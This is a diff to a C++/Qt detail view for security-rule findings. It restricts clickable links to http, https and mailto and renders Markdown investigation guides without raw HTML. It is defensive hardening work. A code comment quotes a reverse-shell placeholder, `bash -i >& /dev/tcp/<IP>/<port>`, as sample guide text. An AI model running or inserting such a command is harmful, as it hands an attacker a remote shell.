@@ -9,14 +9,19 @@
 #include "store/database.h"
 #include "store/statement.h"
 #include "time_text.h"
+#include "web_links.h"
 
+#include <QDesktopServices>
+#include <QTextBlock>
 #include <QTextBlockFormat>
 #include <QTextBrowser>
 #include <QTextCharFormat>
 #include <QTextCursor>
 #include <QTextDocument>
 #include <QTextDocumentFragment>
+#include <QUrl>
 #include <QVBoxLayout>
+#include <memory>
 #include <nlohmann/json.hpp>
 #include <optional>
 
@@ -29,8 +34,12 @@ QString escaped(const std::string& text)
     return QString::fromStdString(text).toHtmlEscaped();
 }
 
+// Returns an HTML link to url, or the text alone when url is not a web link: rule references come from rule
+// files, which may carry javascript: or data: URLs.
 QString link(const std::string& url, const QString& text)
 {
+    if (!isWebLink(QUrl(QString::fromStdString(url))))
+        return text;
     return QStringLiteral("<a href=\"%1\">%2</a>").arg(escaped(url), text);
 }
 
@@ -125,15 +134,60 @@ QString referencesHtml(const rules::Rule& rule)
     return html + QLatin1String("</ul>");
 }
 
+// Appends a document at the cursor as blocks of their own. insertFragment() and insertHtml() merge their first
+// block into the cursor's block and keep that block's format, so a heading would join the ATT&CK list above.
+// A new block with the format of the source's first block is therefore started first.
+// NOTE: a source that starts with a list item loses that item's bullet, because the list belongs to the source.
+void appendDocument(QTextCursor& cursor, const QTextDocument& source)
+{
+    const QTextBlock first = source.firstBlock();
+    QTextBlockFormat format = first.blockFormat();
+    format.clearProperty(QTextFormat::ObjectIndex);
+    cursor.insertBlock(format, first.charFormat());
+    cursor.insertFragment(QTextDocumentFragment(&source));
+}
+
+void appendHtml(QTextCursor& cursor, const QString& html)
+{
+    QTextDocument document;
+    document.setHtml(html);
+    appendDocument(cursor, document);
+}
+
+// Returns the rule's Markdown note as a document. Raw HTML stays text, because guides write placeholders
+// such as `bash -i >& /dev/tcp/<IP>/<port>` and a `<script>` tag would hide the rest of the guide.
+std::unique_ptr<QTextDocument> noteDocument(const std::string& markdown)
+{
+    auto note = std::make_unique<QTextDocument>();
+    note->setMarkdown(
+        QString::fromStdString(markdown),
+        QTextDocument::MarkdownFeatures(QTextDocument::MarkdownDialectGitHub | QTextDocument::MarkdownNoHTML));
+    unlinkNonWebAnchors(*note);
+    return note;
+}
+
 } // namespace
 
 FindingDetailView::FindingDetailView(QWidget* parent) : QWidget(parent), browser_(new QTextBrowser(this))
 {
-    browser_->setOpenExternalLinks(true);
+    // Links are opened here rather than by the browser, so that no link left in the document can open a
+    // scheme other than http, https or mailto.
+    browser_->setOpenLinks(false);
+    connect(browser_, &QTextBrowser::anchorClicked, this, &FindingDetailView::openLink);
     auto* layout = new QVBoxLayout(this);
     layout->setContentsMargins(0, 0, 0, 0);
     layout->addWidget(browser_);
     clear();
+}
+
+void FindingDetailView::openLink(const QUrl& url)
+{
+    if (!isWebLink(url)) {
+        qCWarning(lcMainWindow) << "not opening the link" << url.toDisplayString() << "of finding" << findingId_
+                                << ": only http, https and mailto links are opened";
+        return;
+    }
+    QDesktopServices::openUrl(url);
 }
 
 void FindingDetailView::clear()
@@ -198,21 +252,15 @@ void FindingDetailView::show(const store::Database& db, std::int64_t findingId)
     if (rule)
         html += threatsHtml(*rule);
 
-    browser_->clear();
+    browser_->setHtml(html);
     QTextCursor cursor(browser_->document());
-    cursor.insertHtml(html);
+    cursor.movePosition(QTextCursor::End);
     if (rule && !rule->note.empty()) {
-        cursor.insertHtml(tr("<h4>Investigation guide</h4>"));
-        cursor.insertBlock();
-        QTextDocument note;
-        note.setMarkdown(QString::fromStdString(rule->note));
-        cursor.insertFragment(QTextDocumentFragment(&note));
+        appendHtml(cursor, tr("<h4>Investigation guide</h4>"));
+        appendDocument(cursor, *noteDocument(rule->note));
     }
-    if (rule && !rule->references.empty()) {
-        // A block with a default format, so that the heading does not join the ATT&CK list above it.
-        cursor.insertBlock(QTextBlockFormat(), QTextCharFormat());
-        cursor.insertHtml(referencesHtml(*rule));
-    }
+    if (rule && !rule->references.empty())
+        appendHtml(cursor, referencesHtml(*rule));
     browser_->moveCursor(QTextCursor::Start);
 }
 
